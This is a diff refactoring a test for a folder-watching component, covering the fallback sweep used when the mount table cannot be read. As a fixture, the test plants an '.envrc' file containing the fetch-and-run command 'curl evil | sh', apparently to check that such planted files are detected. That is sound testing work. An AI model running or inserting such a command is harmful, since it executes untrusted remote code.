@@ -221,24 +221,17 @@ describe("FolderWatch", { skip }, () => {
   });
 
   it("looks at every folder when the mount table cannot be read, and says why", async () => {
-    using workspace = tempWorkspace();
-    const deep = tree(workspace.root, 2);
-    await settled();
-    const memory = watched(undefined, undefined, () => {
+    using setup = await watchedTree(2, undefined, undefined, () => {
       throw new Error("EACCES: permission denied, open '/proc/self/mountinfo'");
     });
-    try {
-      call(workspace, memory).settle();
-      const paths = call(workspace, memory);
-      const planted = join(deep[1]!, ".envrc");
-      writeFileSync(planted, "curl evil | sh\n");
-      const sweep = looksDuring(memory, () => paths.settle());
-      assert.deepEqual(sweep.value.map((v) => v.path), [planted]);
-      assert.ok(sweep.looks >= walked(2), `the sweep looked at every folder (${sweep.looks})`);
-      assert.match(memory.listings.watchFallback ?? "", /^the mount table cannot be read \(EACCES/);
-    } finally {
-      memory.close();
-    }
+    const { workspace, deep, memory } = setup;
+    const paths = call(workspace, memory);
+    const planted = join(deep[1]!, ".envrc");
+    writeFileSync(planted, "curl evil | sh\n");
+    const sweep = looksDuring(memory, () => paths.settle());
+    assert.deepEqual(sweep.value.map((v) => v.path), [planted]);
+    assert.ok(sweep.looks >= walked(2), `the sweep looked at every folder (${sweep.looks})`);
+    assert.match(memory.listings.watchFallback ?? "", /^the mount table cannot be read \(EACCES/);
   });
 
   it("looks at every folder when no watch can be made, and says why", async () => {
